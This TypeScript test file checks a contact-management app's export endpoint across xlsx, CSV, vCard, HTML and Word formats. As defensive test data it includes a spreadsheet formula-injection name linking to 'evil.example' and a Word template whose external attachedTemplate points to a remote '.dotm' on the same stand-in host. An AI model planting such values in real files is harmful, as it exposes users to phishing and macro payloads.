import { expect } from 'chai';
import ExcelJS from 'exceljs';
import { QueryTypes } from 'sequelize';
import type { Response } from 'superagent';
import { describeEachDatabase } from '../../test/databases.ts';
import { ctxFor, signedInApp } from '../../test/harness.ts';
import { companyInput } from '../companies/companies.schemas.ts';
import { createCompany } from '../companies/companies.service.ts';
import { createContact } from '../contacts/contacts.service.ts';
import { contactInput } from '../contacts/contacts.schemas.ts';
import type { ContactInput } from '../contacts/contacts.schemas.ts';
import { readContacts } from '../imports/readers/index.ts';
import type { ImportedContact } from '../imports/readers/index.ts';
import { docxText, docxWith } from './test-support.ts';

type Harness = Awaited<ReturnType<typeof signedInApp>>;

/** Keeps any response body as bytes. */
function binary(
  response: Response,
  done: (error: Error | null, body: Buffer) => void,
) {
  const chunks: Buffer[] = [];
  response.on('data', (chunk: Buffer) => chunks.push(chunk));
  response.on('end', () => done(null, Buffer.concat(chunks)));
}

async function readBack(name: string, bytes: Buffer) {
  const contacts: ImportedContact[] = [];
  for await (const row of readContacts(name, bytes)) {
    if ('contact' in row) contacts.push(row.contact);
  }

  return contacts;
}

const slug = (text: string) =>
  text
    .normalize('NFD')
    .replace(/[^a-z]/gi, '')
    .toLowerCase();

const person = (
  lastName: string,
  overrides: Partial<ContactInput> = {},
): ContactInput => ({
  civility: 'MME',
  firstName: 'Claire',
  lastName,
  contactType: 'press',
  emails: [{ address: `${slug(lastName)}@exemple.fr` }],
  phones: [
    { number: '05 61 00 00 01', kind: 'office' },
    { number: '+44 20 7946 0958', kind: 'mobile' },
    { number: '05 61 00 00 02', kind: 'fax' },
  ],
  addresses: [
    {
      street: '1 allée Jean Jaurès',
      postalCode: '31000',
      city: 'Toulouse',
      country: 'FR',
    },
  ],
  affiliations: [{ companyName: 'La Dépêche', function: 'Journaliste' }],
  ...overrides,
});

describeEachDatabase('exports API', (db) => {
  let h: Harness;
  const ids: Record<string, number> = {};
  const auth = (token: string) => ({ Authorization: `Bearer ${token}` });
  const exportAs = (token: string, body: object) =>
    h.request
      .post('/api/exports')
      .set(auth(token))
      .send(body)
      .buffer(true)
      .parse(binary);
  const everyone = () => ({
    kind: 'contacts',
    contactIds: Object.values(ids),
  });

  before(async () => {
    h = await signedInApp(db());
    const ctx = ctxFor(db());
    const inputs: Record<string, ContactInput> = {
      lefevre: person('Lefèvre', {
        title: 'Docteure',
        firstName: 'Éloïse',
        affiliations: [
          {
            companyName: 'La Dépêche du Midi',
            function: 'Rédactrice en chef',
            isPrimary: true,
          },
        ],
      }),
      martin: person('Martin', {
        civility: 'M',
        firstName: 'Paul',
        contactType: 'vip',
      }),
      formula: person('=HYPERLINK("http://evil.example")', {
        contactType: 'partner',
      }),
      noEmail: person('Sansmail', {
        optOut: { email: true, sms: false, post: false, phone: false },
      }),
      noPost: person('Sanscourrier', {
        optOut: { email: false, sms: false, post: true, phone: false },
      }),
      never: person('Jamais', { doNotContact: true }),
    };
    for (const [key, input] of Object.entries(inputs)) {
      ids[key] = (await createContact(ctx, contactInput.parse(input))).id;
    }
  });

  it('streams an xlsx file with a French file name and the counts in headers', async () => {
    const response = await exportAs(h.tokens.editor, {
      target: everyone(),
      format: 'xlsx',
    });
    expect(response.status, response.body.toString()).to.equal(200);
    expect(response.headers['content-type']).to.equal(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(response.headers['content-disposition']).to.match(
      /^attachment; filename="contacts-\d{4}-\d{2}-\d{2}\.xlsx"/,
    );
    expect(response.headers['x-export-matched']).to.equal('6');
    expect(response.headers['x-export-excluded']).to.equal('0');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(response.body);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.rowCount).to.equal(7);
    const names = [];
    for (let row = 2; row <= 7; row++)
      names.push(sheet.getRow(row).getCell(4).value);
    expect(names).to.include('Lefèvre');
    expect(names).to.include('=HYPERLINK("http://evil.example")');
    const lefevre = [...Array(6).keys()]
      .map((i) => sheet.getRow(i + 2))
      .find((row) => row.getCell(4).value === 'Lefèvre')!;
    expect(lefevre.getCell(1).value).to.equal(ids.lefevre);
    expect(lefevre.getCell(7).value).to.equal('Rédactrice en chef');
    expect(lefevre.getCell(8).value).to.equal('La Dépêche du Midi');
    expect(lefevre.getCell(9).value).to.equal('lefevre@exemple.fr');
    expect(lefevre.getCell(10).value).to.equal('05 61 00 00 02');
    expect(lefevre.getCell(11).value).to.equal('05 61 00 00 01');
    expect(lefevre.getCell(12).value).to.equal('+44 20 7946 0958');
  });

  it('leaves out opted-out and do-not-contact people for an Outlook CSV (email)', async () => {
    const response = await exportAs(h.tokens.editor, {
      target: everyone(),
      format: 'outlook-csv',
    });
    expect(response.status).to.equal(200);
    expect(response.headers['content-type']).to.equal(
      'text/csv; charset=utf-8',
    );
    expect(response.headers['x-export-channel']).to.equal('email');
    expect(response.headers['x-export-matched']).to.equal('6');
    expect(response.headers['x-export-excluded']).to.equal('2');
    const contacts = await readBack('contacts.csv', response.body);
    const names = contacts.map((contact) => contact.lastName);
    expect(names).to.have.length(4);
    expect(names).to.not.include('Sansmail').and.not.include('Jamais');
    const lefevre = contacts.find((contact) => contact.lastName === 'Lefèvre')!;
    expect(lefevre).to.deep.include({
      firstName: 'Éloïse',
      civility: 'MME',
      contactType: 'press',
    });
    expect(lefevre.affiliations?.[0]).to.deep.include({
      companyName: 'La Dépêche du Midi',
      function: 'Rédactrice en chef',
    });
    const phones = lefevre.phones?.map((phone) => [phone.kind, phone.number]);
    expect(phones).to.deep.include(['office', '05 61 00 00 01']);
    expect(phones).to.deep.include(['fax', '05 61 00 00 02']);
    expect(phones).to.deep.include(['mobile', '+44 20 7946 0958']);
  });

  it('keeps everyone with channel "none", and leaves out post opt-outs for labels', async () => {
    const all = await exportAs(h.tokens.editor, {
      target: everyone(),
      format: 'vcard4',
      channel: 'none',
    });
    expect(all.headers['x-export-excluded']).to.equal('0');
    expect(await readBack('contacts.vcf', all.body)).to.have.length(6);

    const labels = await exportAs(h.tokens.editor, {
      target: everyone(),
      format: 'docx-labels',
    });
    expect(labels.status).to.equal(200);
    expect(labels.headers['content-disposition']).to.match(
      /filename="etiquettes-/,
    );
    expect(labels.headers['x-export-excluded']).to.equal('2');
    const text = await docxText(labels.body);
    expect(text).to.include('Martin').and.include('31000 Toulouse');
    expect(text).to.not.include('Sanscourrier').and.not.include('Jamais');
  });

  it('exports a query target, and every other format, in English on request', async () => {
    const query = {
      entity: 'contact',
      where: {
        op: 'and',
        items: [{ field: 'contactType', operator: 'in', value: ['vip'] }],
      },
    };
    const html = await exportAs(h.tokens.editor, {
      target: { kind: 'query', query },
      format: 'html',
      lang: 'en',
    });
    expect(html.status, html.body.toString()).to.equal(200);
    expect(html.headers['x-export-matched']).to.equal('1');
    expect(html.body.toString())
      .to.include('<html lang="en">')
      .and.include('Martin');

    const csv = await exportAs(h.tokens.editor, {
      target: everyone(),
      format: 'word-csv',
    });
    expect(csv.body.toString('utf8')).to.match(
      /^\uFEFF"Civilité";"Titre";"Nom"/,
    );
    const vcard3 = await exportAs(h.tokens.editor, {
      target: everyone(),
      format: 'vcard3',
    });
    expect(vcard3.body.toString()).to.include('VERSION:3.0');
    const letters = await exportAs(h.tokens.editor, {
      target: { kind: 'contacts', contactIds: [ids.lefevre] },
      format: 'docx-letters',
    });
    expect(await docxText(letters.body)).to.include(
      'Mme Docteure Éloïse Lefèvre',
    );
  });

  it('exports a static list', async () => {
    await db().sequelize.query(
      `INSERT INTO lists (name, entity, owner_id, version, created_at, updated_at)
       VALUES ('Presse export', 'contact', :owner, 1, :now, :now)`,
      { replacements: { owner: h.editor.id, now: new Date() } },
    );
    const [row] = await db().sequelize.query<{ id: number }>(
      "SELECT id FROM lists WHERE name = 'Presse export'",
      { type: QueryTypes.SELECT },
    );
    const listId = Number(row!.id);
    for (const contactId of [ids.martin, ids.lefevre]) {
      await db().sequelize.query(
        'INSERT INTO list_contacts (list_id, contact_id, added_at) ' +
          'VALUES (:listId, :contactId, :now)',
        { replacements: { listId, contactId, now: new Date() } },
      );
    }
    const response = await exportAs(h.tokens.other, {
      target: { kind: 'list', listId },
      format: 'outlook-csv',
    });
    expect(response.status).to.equal(200);
    const names = (await readBack('l.csv', response.body)).map(
      (c) => c.lastName,
    );
    expect(names.sort()).to.deep.equal(['Lefèvre', 'Martin']);

    const audit = await db().models.AuditEvent.findOne({
      where: { action: 'export', entityType: 'list' },
      order: [['id', 'DESC']],
    });
    expect(audit?.entityId).to.equal(String(listId));
    expect(audit?.actorId).to.equal(h.other.id);
  });

  describe('company targets', () => {
    let listId = 0;
    const exportCompanies = (format: string, extra: object = {}) =>
      exportAs(h.tokens.editor, {
        target: { kind: 'list', listId },
        format,
        ...extra,
      });

    before(async () => {
      const ctx = ctxFor(db());
      const monde = await createCompany(
        ctx,
        companyInput.parse({
          name: 'Le Monde',
          legalName: 'Société éditrice du Monde',
          companyType: 'Quotidien national',
          street: '67-69 avenue Pierre Mendès France',
          postalCode: '75013',
          city: 'Paris',
          country: 'FR',
          phone: '01 57 28 20 00',
          fax: '01 57 28 21 21',
          email: 'redaction@lemonde.fr',
          website: 'https://www.lemonde.fr',
        }),
      );
      const evil = await createCompany(
        ctx,
        companyInput.parse({ name: '=Évil SARL', city: 'Lyon' }),
      );
      await db().sequelize.query(
        `INSERT INTO lists (name, entity, owner_id, version, created_at, updated_at)
         VALUES ('Sociétés export', 'company', :owner, 1, :now, :now)`,
        { replacements: { owner: h.editor.id, now: new Date() } },
      );
      const [row] = await db().sequelize.query<{ id: number }>(
        "SELECT id FROM lists WHERE name = 'Sociétés export'",
        { type: QueryTypes.SELECT },
      );
      listId = Number(row!.id);
      for (const companyId of [monde.id, evil.id]) {
        await db().sequelize.query(
          'INSERT INTO list_companies (list_id, company_id, added_at) ' +
            'VALUES (:listId, :companyId, :now)',
          { replacements: { listId, companyId, now: new Date() } },
        );
      }
    });

    it('writes a company workbook with its own columns, French or English', async () => {
      const response = await exportCompanies('xlsx', { channel: 'email' });
      expect(response.status, response.body.toString()).to.equal(200);
      expect(response.headers['content-disposition']).to.match(
        /filename="societes-\d{4}-\d{2}-\d{2}\.xlsx"/,
      );
      expect(response.headers['x-export-matched']).to.equal('2');
      // Companies opt out of nothing: no channel leaves one out.
      expect(response.headers['x-export-channel']).to.equal('none');
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(response.body);
      const sheet = workbook.worksheets[0]!;
      expect(sheet.name).to.equal('Sociétés');
      const header = (sheet.getRow(1).values as unknown[]).slice(1);
      expect(header.slice(0, 5)).to.deep.equal([
        'Identifiant',
        'Société / Organisme',
        'Raison sociale',
        'Type de société',
        'Secteur',
      ]);
      const rowOf = (name: string) =>
        [2, 3]
          .map((n) => sheet.getRow(n))
          .find((row) => row.getCell(2).value === name)!;
      const cells = Object.fromEntries(
        header.map((name, k) => [name, rowOf('Le Monde').getCell(k + 1).value]),
      );
      expect(cells).to.include({
        'Société / Organisme': 'Le Monde',
        'E-mail principal': 'redaction@lemonde.fr',
        'Téléphone principal': '01 57 28 20 00',
        'Fax principal': '01 57 28 21 21',
        'Site web': 'https://www.lemonde.fr',
        'Code postal': '75013',
        Ville: 'Paris',
      });
      // Text is never a formula in a workbook: the name is written as is.
      expect(rowOf('=Évil SARL')).to.exist;

      const english = await exportCompanies('xlsx', { lang: 'en' });
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(english.body);
      expect(english.headers['content-disposition']).to.match(
        /filename="companies-/,
      );
      expect(book.worksheets[0]!.name).to.equal('Companies');
      expect(book.worksheets[0]!.getRow(1).getCell(3).value).to.equal(
        'Legal name',
      );
      const audit = await db().models.AuditEvent.findOne({
        where: { action: 'export', entityType: 'list' },
        order: [['id', 'DESC']],
      });
      expect(audit?.summary).to.equal('export xlsx : 2 sociétés');
      expect(JSON.parse(audit!.afterData!)).to.include({
        entity: 'company',
        rows: 2,
        completed: true,
      });
    });

    it('exports a company query, audited as companies', async () => {
      const query = {
        entity: 'company',
        where: {
          op: 'and',
          items: [{ field: 'hasEmail', operator: 'is', value: true }],
        },
      };
      const response = await exportAs(h.tokens.editor, {
        target: { kind: 'query', query },
        format: 'html',
        lang: 'en',
      });
      expect(response.status, response.body.toString()).to.equal(200);
      const page = (response.body as Buffer).toString('utf8');
      expect(page).to.include('<caption>Exported companies</caption>');
      expect(page).to.include('<td>Le Monde</td>');
      // Only the company with an email: not the other one.
      expect(page).not.to.include('Évil');
      const audit = await db().models.AuditEvent.findOne({
        where: { action: 'export' },
        order: [['id', 'DESC']],
      });
      expect(audit).to.include({
        entityType: 'companies',
        summary: 'export html : 1 société',
      });
    });

    it('writes Outlook company entries: the company and its business details', async () => {
      const response = await exportCompanies('outlook-csv');
      expect(response.status).to.equal(200);
      const [head, ...lines] = (response.body as Buffer)
        .toString('utf8')
        .replace(/^\uFEFF/, '')
        .split('\r\n')
        .map((line) =>
          line
            .slice(1, -1)
            .split('","')
            .map((v) => v.replace(/""/g, '"')),
        );
      const first = lines.find((line) => line.includes('Le Monde'));
      const entry = Object.fromEntries(
        head!.map((name, k) => [name, first![k]]),
      );
      expect(entry).to.include({
        Prénom: '',
        Nom: '',
        Société: 'Le Monde',
        'Rue (bureau)': '67-69 avenue Pierre Mendès France',
        'Ville (bureau)': 'Paris',
        'Code postal (bureau)': '75013',
        'Téléphone (bureau)': '01 57 28 20 00',
        'Télécopie (bureau)': '01 57 28 21 21',
        'Adresse de messagerie': 'redaction@lemonde.fr',
        "Nom complet de l'adresse de messagerie":
          'Le Monde (redaction@lemonde.fr)',
        'Type de contact': '',
      });
    });

    it('writes vCards of KIND:org in 4.0 and ORG only in 3.0', async () => {
      const text = async (format: string) =>
        ((await exportCompanies(format)).body as Buffer).toString('utf8');
      const four = await text('vcard4');
      const card = four.split('END:VCARD').find((c) => c.includes('Monde'))!;
      expect(card).to.include('KIND:org\r\n');
      expect(card).to.include('FN:Le Monde\r\nORG:Le Monde\r\n');
      expect(card).not.to.match(/\r\nN:/);
      expect(card).to.include('URL:https://www.lemonde.fr\r\n');
      expect(card).to.include('UID:urn:relais:company:');
      const three = await text('vcard3');
      const old = three.split('END:VCARD').find((c) => c.includes('Monde'))!;
      expect(old).not.to.include('KIND:');
      expect(old).to.include('N:;;;;\r\nFN:Le Monde\r\nORG:Le Monde\r\n');
      expect(old).to.include('EMAIL;TYPE=INTERNET,PREF:redaction@lemonde.fr');
    });

    it('prints companies and merges letters and labels addressed to them', async () => {
      const text = async (format: string) =>
        ((await exportCompanies(format)).body as Buffer).toString('utf8');
      const page = await text('html');
      expect(page).to.include(
        '<caption>Liste des sociétés exportées</caption>',
      );
      expect(page).to.include('<th scope="col">Site web</th>');
      expect(page).to.include('<p class="meta">2 sociétés</p>');

      const csv = await text('word-csv');
      const [names, ...lines] = csv.replace(/^\uFEFF/, '').split('\r\n');
      const values = lines.find((line) => line.includes('Monde'));
      const column = names!.split(';').indexOf('"Destinataire"');
      expect(values!.split(';')[column]).to.equal('"Le Monde"');

      const letters = await exportCompanies('docx-letters', {
        channel: 'post',
      });
      expect(letters.headers['content-disposition']).to.match(
        /filename="courriers-societes-/,
      );
      const letter = await docxText(letters.body);
      expect(letter).to.include(
        'Le Monde\n67-69 avenue Pierre Mendès France\n75013 Paris\n',
      );
      expect(letter).to.include('Madame, Monsieur,');
      const labels = await docxText(
        (await exportCompanies('docx-labels')).body,
      );
      expect(labels).to.include('Le Monde\n67-69 avenue');
      // Merged text is written as is: Word runs no formula in a document.
      expect(labels).to.match(/=Évil SARL\n\s*Lyon/);
    });
  });

  it('merges an uploaded template with a placeholder split across runs', async () => {
    const template = await docxWith(
      '<w:p><w:r><w:t>Cher {{Pré</w:t></w:r><w:r><w:t>nom}} «Nom»</w:t></w:r></w:p>',
    );
    const response = await exportAs(h.tokens.editor, {
      target: { kind: 'contacts', contactIds: [ids.martin] },
      format: 'docx-letters',
      template: {
        fileName: 'invitation.docx',
        contentBase64: template.toString('base64'),
      },
    });
    expect(response.status).to.equal(200);
    expect(await docxText(response.body)).to.equal('Cher Paul Martin\n');
  });

  it('refuses a hostile template with a clear message naming it', async () => {
    const hostile = await docxWith('<w:p/>', {
      'word/_rels/settings.xml.rels':
        '<Relationships><Relationship Id="r" Type="x/attachedTemplate" ' +
        'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
    });
    const response = await h.request
      .post('/api/exports')
      .set(auth(h.tokens.editor))
      .send({
        target: everyone(),
        format: 'docx-letters',
        template: {
          fileName: 'piège.docx',
          contentBase64: hostile.toString('base64'),
        },
      });
    expect(response.status).to.equal(422);
    expect(response.body.error.code).to.equal('EXPORT_TEMPLATE_INVALID');
    expect(response.body.error.message).to.include('« piège.docx »');
    expect(response.body.error.messageEn).to.include('"piège.docx"');

    const notWord = await h.request
      .post('/api/exports')
      .set(auth(h.tokens.editor))
      .send({
        target: everyone(),
        format: 'docx-labels',
        template: { fileName: 'photo.jpg', contentBase64: 'AAAA' },
      });
    expect(notWord.status).to.equal(422);
    expect(notWord.body.error.message).to.equal(
      'Modèle « photo.jpg » refusé : seuls les documents Word .docx servent ' +
        'de modèle (ni .doc, ni .dotx, ni .docm).',
    );
  });

  it('names every bad field and refuses without a session', async () => {
    const bad = await h.request
      .post('/api/exports')
      .set(auth(h.tokens.editor))
      .send({ target: { kind: 'list' }, format: 'pdf', lang: 'de' });
    expect(bad.status).to.equal(400);
    const paths = bad.body.error.fields.map((f: { path: string }) => f.path);
    expect(paths).to.include.members(['format', 'lang']);
    expect(paths.some((p: string) => p.startsWith('target'))).to.equal(true);
    const anonymous = await h.request
      .post('/api/exports')
      .send({ target: everyone(), format: 'xlsx' });
    expect(anonymous.status).to.equal(401);
  });

  it('audits each export: who, format, target, rows, left out', async () => {
    const before = await db().models.AuditEvent.count({
      where: { action: 'export' },
    });
    await exportAs(h.tokens.editor, { target: everyone(), format: 'vcard3' });
    const event = await db().models.AuditEvent.findOne({
      where: { action: 'export' },
      order: [['id', 'DESC']],
    });
    expect(
      await db().models.AuditEvent.count({ where: { action: 'export' } }),
    ).to.equal(before + 1);
    expect(event?.actorId).to.equal(h.editor.id);
    expect(event?.entityType).to.equal('contacts');
    expect(event?.summary).to.equal(
      'export vcard3 : 4 contacts, 2 exclus pour le canal E-mail',
    );
    const after = JSON.parse(event!.afterData!);
    expect(after).to.deep.include({
      format: 'vcard3',
      channel: 'email',
      rows: 4,
      matched: 6,
      excluded: 2,
      completed: true,
    });
    expect(after.target).to.deep.equal(everyone());
  });

  it('lets administrators reserve exports to themselves, with a version check', async () => {
    const read = await h.request
      .get('/api/exports/settings')
      .set(auth(h.tokens.admin));
    expect(read.status).to.equal(200);
    expect(read.body).to.deep.include({
      settings: { adminOnly: false },
      version: 0,
    });
    // Editors read the settings (the export dialog warns them), never write them.
    const readByEditor = await h.request
      .get('/api/exports/settings')
      .set(auth(h.tokens.editor));
    expect(readByEditor.status).to.equal(200);
    expect(readByEditor.body.settings).to.deep.equal({ adminOnly: false });
    const byEditor = await h.request
      .put('/api/exports/settings')
      .set(auth(h.tokens.editor))
      .send({ settings: { adminOnly: true }, version: 0 });
    expect(byEditor.status).to.equal(403);

    const saved = await h.request
      .put('/api/exports/settings')
      .set(auth(h.tokens.admin))
      .send({ settings: { adminOnly: true }, version: 0 });
    expect(saved.status).to.equal(200);
    expect(saved.body).to.deep.include({
      settings: { adminOnly: true },
      version: 1,
    });
    const stale = await h.request
      .put('/api/exports/settings')
      .set(auth(h.tokens.admin))
      .send({ settings: { adminOnly: false }, version: 0 });
    expect(stale.status).to.equal(409);

    const seenByEditor = await h.request
      .get('/api/exports/settings')
      .set(auth(h.tokens.editor));
    expect(seenByEditor.body.settings).to.deep.equal({ adminOnly: true });

    const refused = await h.request
      .post('/api/exports')
      .set(auth(h.tokens.editor))
      .send({ target: everyone(), format: 'xlsx' });
    expect(refused.status).to.equal(403);
    expect(refused.body.error.message).to.equal(
      'Les exports sont réservés aux administrateurs.',
    );
    const allowed = await exportAs(h.tokens.admin, {
      target: everyone(),
      format: 'xlsx',
    });
    expect(allowed.status).to.equal(200);

    const reopened = await h.request
      .put('/api/exports/settings')
      .set(auth(h.tokens.admin))
      .send({ settings: { adminOnly: false }, version: 1 });
    expect(reopened.body.version).to.equal(2);
    const audit = await db().models.AuditEvent.findOne({
      where: { entityType: 'settings', entityId: 'exports' },
      order: [['id', 'DESC']],
    });
    expect(JSON.parse(audit!.afterData!)).to.deep.equal({ adminOnly: false });
  });
});
